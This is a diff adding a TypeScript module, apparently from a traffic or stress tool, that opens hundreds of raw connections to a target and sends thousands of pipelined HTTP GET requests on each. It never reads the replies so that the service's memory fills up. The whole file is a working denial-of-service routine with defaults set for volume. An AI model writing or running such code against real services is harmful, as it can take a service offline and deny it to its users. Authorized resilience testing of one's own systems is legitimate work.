@@ -1,0 +1,40 @@
+/**
+ * Requests sent one behind the other, whose replies nobody reads: what waits for them is to fill the service's memory.
+ *
+ * @module
+ */
+import type { Target } from '../target.ts'
+import { openConnections, pause, untilClosed } from './raw-connection.ts'
+
+export interface UnreadPipelines {
+  readonly connections: number
+  readonly requestsEach: number
+  readonly path: string
+}
+
+export interface UnreadPipelinesFigures {
+  readonly connected: number
+  readonly sentBytes: number
+  readonly closedByService: number
+}
+
+/** Goes on until the signal says so, or the service has closed every connection. */
+export async function sendUnreadPipelines(
+  target: Target,
+  signal: AbortSignal,
+  {
+    connections = 600,
+    requestsEach = 2000,
+    path = '/watch/assets/hls.min.js',
+  }: Partial<UnreadPipelines> = {},
+): Promise<UnreadPipelinesFigures> {
+  const sockets = await openConnections(target, connections, signal)
+  const pipeline = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`.repeat(requestsEach))
+  for (const socket of sockets) {
+    if (!socket.destroyed) socket.write(pipeline)
+    await pause(0, signal)
+  }
+  const isClosed = await untilClosed(sockets, signal)
+  const sentBytes = sockets.reduce((sum, { bytesWritten }) => sum + bytesWritten, 0)
+  return { connected: sockets.length, sentBytes, closedByService: isClosed ? sockets.length : 0 }
+}
